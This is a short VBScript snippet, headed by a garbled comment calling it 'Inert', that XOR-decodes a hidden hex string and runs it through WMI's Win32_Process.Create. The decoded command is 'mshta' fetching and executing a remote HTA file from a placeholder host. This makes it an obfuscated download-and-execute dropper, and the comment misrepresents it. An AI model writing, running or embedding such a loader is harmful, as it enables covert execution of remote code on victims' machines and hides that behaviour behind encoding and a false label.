' Inert: a line that is under a key, started by the management of Windows.
Function Field(s)
  Dim i, r
  For i = 1 To Len(s) Step 2
    r = r & Chr(CLng("&H" & Mid(s, i, 2)) Xor Asc(Mid("Key", ((i - 1) \ 2) Mod 3 + 1, 1)))
  Next
  Field = r
End Function
Set o = GetObject("winmgmts:\\.\root\cimv2")
o.Get("Win32_Process").Create Field("2616113F045923110D3B1643644A11650C173D04152201562A4B113F04"), Null, Null, Empty
